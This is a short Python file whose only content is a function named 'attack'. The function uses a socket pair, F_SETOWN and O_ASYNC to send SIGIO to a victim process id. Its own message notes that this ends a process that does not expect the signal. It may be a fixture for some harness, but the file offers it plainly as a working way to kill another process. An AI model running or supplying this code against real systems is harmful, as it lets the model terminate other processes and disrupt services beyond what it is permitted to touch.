import fcntl
import os
import socket


def attack(target):
    mine, other = socket.socketpair()
    fcntl.fcntl(mine, fcntl.F_SETOWN, target["victim"])
    fcntl.fcntl(mine, fcntl.F_SETFL, os.O_ASYNC)
    other.send(b"SIGIO ends a process that does not expect it")
    return "sent"
